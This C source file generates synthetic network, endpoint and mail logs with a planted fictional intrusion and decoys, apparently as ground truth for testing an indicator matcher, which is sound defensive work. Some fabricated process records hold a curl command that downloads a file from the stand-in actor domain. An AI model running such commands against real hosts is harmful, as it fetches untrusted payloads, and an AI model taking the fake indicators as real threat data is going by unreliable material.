/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The story. At 01:47:23 on 9 December 2021 the mail server looks up a name that poses as a Linux mirror, and talks to
 * it several times a day from then on; two workstations follow in January and March. In the afternoon of 16 May 2022
 * somebody notices, and at 13:41:52 the last connection finds nobody. No record mentions one indicator twice, so that
 * records and sightings are the same number. */
#include "plant.h"

#include <stdio.h>
#include <string.h>

#define FIRST_SIGHTING     (time_of(2021, 12, 9, 1, 47, 23) + 318204)
#define LAST_SIGHTING      (time_of(2022, 5, 16, 13, 41, 52) + 607113)
#define SECOND_SERVER_FROM time_of(2022, 1, 11, 0, 0, 0) /* 192.169.7.197 comes into use */

#define MIRROR_AGENT    "libdnf (CentOS Linux 7; generic; Linux.x86_64)"
#define LOADED          "C:\\\\Windows\\\\System32\\\\netsvcx.dll"
#define SERVICE_COMMAND "C:\\\\Windows\\\\System32\\\\svchost.exe -k netsvcx"

static const char *address_at(site *s, micros at, indicator_id *ret_indicator)
{
    *ret_indicator = at >= SECOND_SERVER_FROM && random_below(&s->random, 5) < 3 ? IND_IP_197 : IND_IP_142;
    return truth_values[*ret_indicator];
}

static void lookup(site *s, truth *t, micros at, const char *client, const char *query, indicator_id name,
                   indicator_id address)
{
    if (site_dns(s, at, &(dns_row){client, query, truth_values[address], "NOERROR"})) {
        truth_hit(t, name, true, LOG_DNS, at, client);
        truth_hit(t, address, true, LOG_DNS, at, client);
    }
}

static void connection(site *s, truth *t, micros at, const char *client, indicator_id address)
{
    unsigned duration = random_between(&s->random, 90000, 31000000), sent = random_between(&s->random, 600, 9000);
    unsigned received = random_between(&s->random, 500, 60000);
    if (site_conn(s, at, &(conn_row){client, truth_values[address], "tcp", "ssl", "SF", 443, duration, sent, received}))
        truth_hit(t, address, true, LOG_CONN, at, client);
}

static void beacon(site *s, truth *t, micros at, const char *client, unsigned number)
{
    static const struct {
        const char *name;
        indicator_id indicator;
    } names[] = {{"centos-packages.com", IND_CENTOS},
                 {"mirror.centos-packages.com", IND_CENTOS},
                 {"redhat-packages.com", IND_REDHAT},
                 {"CENTOS-PACKAGES.COM", IND_CENTOS},
                 {"updates.el7.redhat-packages.com", IND_REDHAT}};
    unsigned n = number % (sizeof names / sizeof *names);
    indicator_id address;
    const char *ip = address_at(s, at, &address);
    lookup(s, t, at, client, names[n].name, names[n].indicator, address);
    micros later = at + random_between(&s->random, 20000, 200000);
    connection(s, t, later, client, address);
    if (number % 4) return;
    later += random_between(&s->random, 20000, 900000);
    unsigned size = random_between(&s->random, 500, 60000);
    if (site_http(s, later,
                  &(http_row){client, ip, "GET", names[n].name, "/el7/os/x86_64/repodata/repomd.xml", MIRROR_AGENT,
                              "text/xml", 80, 200, size})) {
        truth_hit(t, names[n].indicator, true, LOG_HTTP, later, client);
        truth_hit(t, address, true, LOG_HTTP, later, client);
    }
}

/* The mail server: four times a day, five to seven hours apart. */
static void plant_mail_server(site *s, truth *t)
{
    micros at = FIRST_SIGHTING;
    for (unsigned n = 0; at < LAST_SIGHTING - HOUR; n++) {
        beacon(s, t, at, MAIL_SERVER_IP, n);
        at += random_between(&s->random, 300, 420) * MINUTE;
        at += random_below(&s->random, 60000000);
    }
}

/* One request through the proxy, in the spellings that a matcher must see through. */
static void proxied(site *s, truth *t, micros at, const machine *m, unsigned number)
{
    static const struct {
        const char *method, *url;
        indicator_id indicator;
        bool direct; /* the peer is the actor's own server */
    } requests[] = {
        {"CONNECT", "redhat-packages.com:443", IND_REDHAT, true},
        {"GET", "http://mirror.centos-packages.com/el7/os/x86_64/", IND_CENTOS, true},
        {"GET", "http://CENTOS-PACKAGES.COM/el7/os/x86_64/", IND_CENTOS, true},
        {"CONNECT", "redhat-packages.com.:443", IND_REDHAT, true},
        {"GET", "http://go.linkcheck.example/?u=http%3A%2F%2Fupdates.redhat-packages.com%2Fel8", IND_REDHAT, false},
        {"GET", "http://go.linkcheck.example/r?to=centos%2Dpackages%2Ecom", IND_CENTOS, false},
    };
    unsigned n = number % (sizeof requests / sizeof *requests);
    indicator_id address;
    char peer[40];
    snprintf(peer, sizeof peer, "HIER_DIRECT/%s", address_at(s, at, &address));
    if (!requests[n].direct) {
        address = IND_NONE;
        snprintf(peer, sizeof peer, "HIER_DIRECT/203.0.113.77");
    }
    unsigned size = random_between(&s->random, 500, 9000);
    bool tunnel = requests[n].method[0] == 'C';
    if (site_squid(s, LOG_SQUID, at,
                   &(squid_row){m->ip, tunnel ? "TCP_TUNNEL/200" : "TCP_MISS/200", requests[n].method, requests[n].url,
                                peer, tunnel ? "-" : "text/html", size})) {
        truth_hit(t, requests[n].indicator, true, LOG_SQUID, at, m->ip);
        truth_hit(t, address, true, LOG_SQUID, at, m->ip);
    }
}

static void plant_workstation(site *s, truth *t, const machine *m, micros from)
{
    unsigned number = 0;
    civil c = civil_of(from);
    for (micros day = time_of(c.year, c.month, c.day, 0, 0, 0); day < LAST_SIGHTING; day += DAY) {
        for (unsigned i = 0; i < 3 && !site_is_holiday(day); i++) {
            micros at = day + random_between(&s->random, 480 + i * 150, 600 + i * 150) * MINUTE;
            at += random_below(&s->random, 60000000);
            if (at < from || at >= LAST_SIGHTING - HOUR) continue;
            if (random_below(&s->random, 3) == 0)
                beacon(s, t, at, m->ip, number + 1);
            else
                proxied(s, t, at, m, number);
            number++;
        }
    }
}

static void process(site *s, truth *t, micros at, const process_row *row, indicator_id indicator)
{
    if (site_process(s, at, row)) truth_hit(t, indicator, true, LOG_WINDOWS, at, row->host->fqdn);
}

/* Sysmon writes hashes in upper case, and JSON may hide a value behind escapes (RFC 8259 7). */
static void plant_windows(site *s, truth *t)
{
    static const char loader[] =
        "SHA1=07B494575D548A83F0812CEBA6B8D567C7EC86ED,IMPHASH=00000000000000000000000000000000";
    static const char service[] =
        "SHA1=F974D22F74B0A105668C72DC100D1D9FCC8C72DE,IMPHASH=00000000000000000000000000000000";
    const machine *first = &s->ws[7], *second = &s->ws[19];
    process(s, t, time_of(2022, 1, 18, 8, 26, 41) + 310000, &(process_row){first, LOADED, SERVICE_COMMAND, loader, 7},
            IND_SHA1_LOADER);
    process(s, t, time_of(2022, 1, 18, 8, 27, 3) + 902000,
            &(process_row){first, "C:\\\\Windows\\\\System32\\\\svchost.exe", SERVICE_COMMAND, service, 1},
            IND_SHA1_SERVICE);
    process(s, t, time_of(2022, 2, 16, 7, 58, 12) + 44000, /* while the sensor's disks are gone */
            &(process_row){first, LOADED, SERVICE_COMMAND, loader, 7}, IND_SHA1_LOADER);
    process(s, t, time_of(2022, 3, 3, 9, 11, 20) + 15000, &(process_row){second, LOADED, SERVICE_COMMAND, loader, 7},
            IND_SHA1_LOADER);
    process(s, t, time_of(2022, 3, 3, 9, 14, 57) + 680000,
            &(process_row){second, "C:\\\\Windows\\\\System32\\\\curl.exe",
                           "curl.exe -s -o t.bin http:\\/\\/updates.redhat-packages.com\\/el7\\/t.bin", NULL, 1},
            IND_REDHAT);
    process(s, t, time_of(2022, 4, 21, 15, 40, 8) + 127000,
            &(process_row){second, "C:\\\\Windows\\\\System32\\\\curl.exe",
                           "curl.exe -s http:\\/\\/mirror\\u002ecentos-packages\\u002ecom\\/el7", NULL, 1},
            IND_CENTOS);
    static const struct {
        int month, day, hour, minute, second;
        unsigned machine;
        indicator_id indicator;
        const char *hash;
    } scans[] = {{3, 3, 12, 0, 4, 19, IND_MD5_LOADER, "9216198A2EBC14DD68386738C1C59792"},
                 {3, 4, 12, 0, 6, 7, IND_MD5_LOADER, "9216198A2EBC14DD68386738C1C59792"},
                 {5, 16, 11, 20, 45, 19, IND_MD5_SERVICE, "921AA3783644750890B9D30843253EC6"}};
    for (size_t i = 0; i < sizeof scans / sizeof *scans; i++) {
        micros at = time_of(2022, scans[i].month, scans[i].day, scans[i].hour, scans[i].minute, scans[i].second);
        const machine *m = &s->ws[scans[i].machine];
        if (log_add(s->logs, LOG_EDR, at,
                    "{\"timestamp\":\"2022-%02d-%02dT%02d:%02d:%02d.000Z\",\"hostname\":\"%s\",\"event\":\"file_scan\","
                    "\"path\":\"" LOADED "\",\"md5\":\"%s\",\"verdict\":\"unknown\"}",
                    scans[i].month, scans[i].day, scans[i].hour, scans[i].minute, scans[i].second, m->fqdn,
                    scans[i].hash))
            truth_hit(t, scans[i].indicator, true, LOG_EDR, at, m->fqdn);
    }
}

/* Logins from the actor's address, and what the mail gateway turned away. */
static void plant_mail_and_auth(site *s, truth *t)
{
    static const int logins[][6] = {{2021, 12, 9, 2, 31, 9},  {2021, 12, 31, 23, 50, 2}, {2022, 1, 1, 0, 12, 40},
                                    {2022, 2, 15, 21, 5, 33}, {2022, 4, 7, 19, 44, 51},  {2022, 5, 13, 22, 8, 17}};
    for (size_t i = 0; i < sizeof logins / sizeof *logins; i++) {
        const int *l = logins[i];
        micros at = time_of(l[0], l[1], l[2], l[3], l[4], l[5]);
        if (site_syslog(s, LOG_AUTH, at, "sshd",
                        "Accepted publickey for root from 5.134.119.142 port %u ssh2: RSA "
                        "SHA256:Zq8w",
                        40000 + (unsigned)i * 113))
            truth_hit(t, IND_IP_142, true, LOG_AUTH, at, MAIL_SERVER_NAME);
    }
    micros at = time_of(2021, 12, 14, 7, 2, 18);
    if (site_syslog(s, LOG_MAIL, at, "postfix/smtpd",
                    "NOQUEUE: reject: RCPT from unknown[5.134.119.142]: 550 5.7.1 <larch@institute.example>: Recipient "
                    "address rejected: policy; from=<updates@redhat-packages.com> to=<larch@institute.example> "
                    "proto=ESMTP helo=<srv.local>")) {
        truth_hit(t, IND_IP_142, true, LOG_MAIL, at, MAIL_SERVER_NAME);
        truth_hit(t, IND_REDHAT, true, LOG_MAIL, at, MAIL_SERVER_NAME);
    }
    at = time_of(2022, 2, 17, 10, 33, 59);
    if (site_syslog(
            s, LOG_MAIL, at, "postfix/smtpd",
            "NOQUEUE: reject: RCPT from unknown[198.51.100.9]: 554 5.7.1 Helo command rejected: policy; "
            "from=<notice@parcels.example> to=<pine@institute.example> proto=ESMTP helo=<REDHAT-PACKAGES.COM.>"))
        truth_hit(t, IND_REDHAT, true, LOG_MAIL, at, MAIL_SERVER_NAME);
}

void plant_intrusion(site *s, truth *t)
{
    plant_mail_server(s, t);
    plant_workstation(s, t, &s->ws[7], time_of(2022, 1, 18, 8, 30, 0));
    plant_workstation(s, t, &s->ws[19], time_of(2022, 3, 3, 9, 20, 0));
    plant_windows(s, t);
    plant_mail_and_auth(s, t);
    micros at = time_of(2022, 2, 3, 9, 52, 11) + 418000;
    if (site_squid(s, LOG_SQUID, at,
                   &(squid_row){s->ws[7].ip, "TCP_MISS/200", "GET", "http://BSEF.OR.KR/board/list.php",
                                "HIER_DIRECT/203.0.113.140", "text/html", 7310}))
        truth_hit(t, IND_BSEF, true, LOG_SQUID, at, s->ws[7].ip);
    lookup(s, t, at - 700000, s->ws[7].ip, "bsef.or.kr", IND_BSEF, IND_NONE);
    connection(s, t, LAST_SIGHTING, s->ws[19].ip, IND_IP_142);
}

void plant_outside_validity(site *s, truth *t)
{
    static const int knocks[][6] = {{2021, 10, 12, 4, 18, 33}, {2022, 6, 20, 17, 2, 5}, {2022, 6, 20, 17, 2, 41}};
    for (size_t i = 0; i < sizeof knocks / sizeof *knocks; i++) {
        const int *k = knocks[i];
        micros at = time_of(k[0], k[1], k[2], k[3], k[4], k[5]) + 113377;
        if (site_conn(s, at, &(conn_row){"192.169.7.197", MAIL_SERVER_IP, "tcp", "-", "REJ", 22, 210, 0, 0}))
            truth_hit(t, IND_IP_197, false, LOG_CONN, at, MAIL_SERVER_IP);
    }
    for (unsigned i = 0; i < 12; i++) {
        micros at = time_of(2020, 3, 9 + (int)i / 3, 9 + (int)i % 3, 12 + (int)i, 30);
        at += random_below(&s->random, 1000000);
        unsigned size = random_between(&s->random, 900, 40000);
        const machine *m = &s->ws[i % 2 ? 4 : 11];
        if (site_squid(s, LOG_ARCHIVE, at,
                       &(squid_row){m->ip, "TCP_MISS/200", "GET", "http://photos.messenger-app.example/a.apk",
                                    "HIER_DIRECT/192.169.7.197", "application/zip", size}))
            truth_hit(t, IND_IP_197, false, LOG_ARCHIVE, at, m->ip);
    }
}

/* A moment of a working day somewhere in the nine months. */
static micros some_moment(site *s)
{
    for (;;) {
        micros day = FIRST_DAY + random_below(&s->random, 272) * DAY;
        if (site_is_holiday(day) || (day >= GAP_FIRST - DAY && day < GAP_END)) continue;
        micros minutes = random_between(&s->random, 450, 1050) * MINUTE;
        return day + minutes + random_below(&s->random, 60000000);
    }
}

static void decoy_names(site *s, truth *t)
{
    static const struct {
        const char *name;
        decoy_id kind;
        unsigned rows;
    } names[] = {{"notcentos-packages.com", DECOY_LONGER_LEFT, 12},
                 {"www.not-redhat-packages.com", DECOY_LONGER_LEFT, 6},
                 {"centos-packages.com.mirror.example", DECOY_LONGER_RIGHT, 14},
                 {"bsef.or.kr.example", DECOY_LONGER_RIGHT, 5},
                 {"redhat-packages.community", DECOY_LONGER_LABEL, 7},
                 {"redhat-packages.com-update.example", DECOY_LONGER_LABEL, 6},
                 {"en.wikipedia.org", DECOY_REFERENCE, 40}};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        for (unsigned n = 0; n < names[i].rows; n++) {
            micros at = some_moment(s);
            const machine *m = &s->ws[random_between(&s->random, 1, WORKSTATIONS)];
            char url[160];
            snprintf(url, sizeof url, n % 2 ? "%s:443" : "http://%s/index.html", names[i].name);
            if (site_dns(s, at, &(dns_row){m->ip, names[i].name, "198.51.100.33", "NOERROR"}))
                t->decoys[names[i].kind]++;
            if (site_squid(s, LOG_SQUID, at + 300000,
                           &(squid_row){m->ip, n % 2 ? "TCP_TUNNEL/200" : "TCP_MISS/200", n % 2 ? "CONNECT" : "GET",
                                        url, "HIER_DIRECT/198.51.100.33", "-", 2211}))
                t->decoys[names[i].kind]++;
        }
    }
}

static void decoy_urls(site *s, truth *t)
{
    static const struct {
        const char *url;
        decoy_id kind;
    } urls[] = {{"http://go.linkcheck.example/?u=http%3A%2F%2Fnotcentos-packages.com%2F", DECOY_LONGER_LEFT},
                {"http://go.linkcheck.example/?u=my%2Dcentos-packages.com", DECOY_HIDDEN_LABEL},
                {"http://go.linkcheck.example/?u=redhat-packages.com%2Emirror.example", DECOY_HIDDEN_LABEL},
                {"http://files.example/agent/1192.169.7.197/setup.bin", DECOY_LONGER_NUMBER},
                {"http://files.example/agent/5.192.169.7.197/setup.bin", DECOY_VERSION},
                {"http://files.example/agent/192.169.7.197.12/setup.bin", DECOY_VERSION},
                {"http://files.example/agent/15.134.119.142/setup.bin", DECOY_LONGER_NUMBER},
                {"http://files.example/blob/00ff9216198a2ebc14dd68386738c1c59792", DECOY_LONGER_HEX}};
    for (size_t i = 0; i < sizeof urls / sizeof *urls; i++) {
        for (unsigned n = 0; n < 4; n++) {
            micros at = some_moment(s);
            const machine *m = &s->ws[random_between(&s->random, 1, WORKSTATIONS)];
            if (site_squid(
                    s, LOG_SQUID, at,
                    &(squid_row){m->ip, "TCP_MISS/200", "GET", urls[i].url, "HIER_DIRECT/198.51.100.41", "-", 5120}))
                t->decoys[urls[i].kind]++;
        }
    }
}

static void decoy_records(site *s, truth *t)
{
    for (unsigned n = 0; n < 9; n++) {
        const char *const near[] = {"192.169.7.19", "192.169.7.97", "5.134.119.14"};
        if (site_conn(s, some_moment(s),
                      &(conn_row){MAIL_SERVER_IP, near[n % 3], "tcp", "smtp", "SF", 25, 90100, 812, 4100}))
            t->decoys[DECOY_SHORTER_NUMBER]++;
        if (site_syslog(s, LOG_MAIL, some_moment(s), "postfix/smtpd",
                        "NOQUEUE: filter: connection id 192.169.7.1970 held; "
                        "from=<list@notcentos-packages.com>")) {
            t->decoys[DECOY_LONGER_NUMBER]++;
            t->decoys[DECOY_LONGER_LEFT]++;
        }
        const char *hashes[] = {"SHA256=9216198A2EBC14DD68386738C1C59792A05E8D2B9E2B4BB7C7D1E0D6C0F1AB33",
                                "SHA256=A1B2F974D22F74B0A105668C72DC100D1D9FCC8C72DE00112233445566778899"};
        const machine *m = &s->ws[random_between(&s->random, 1, WORKSTATIONS)];
        if (site_process(s, some_moment(s),
                         &(process_row){m, "C:\\\\Program Files\\\\Solver\\\\solve.exe",
                                        "solve.exe --version 5.192.169.7.197", hashes[n % 2], 1})) {
            t->decoys[DECOY_LONGER_HEX]++;
            t->decoys[DECOY_VERSION]++;
        }
        if (site_process(s, some_moment(s),
                         &(process_row){m, "C:\\\\Windows\\\\System32\\\\curl.exe",
                                        "curl.exe http:\\/\\/my\\u002dcentos-packages.com\\/", NULL, 1}))
            t->decoys[DECOY_HIDDEN_LABEL]++;
    }
}

void plant_decoys(site *s, truth *t)
{
    decoy_names(s, t);
    decoy_urls(s, t);
    decoy_records(s, t);
}
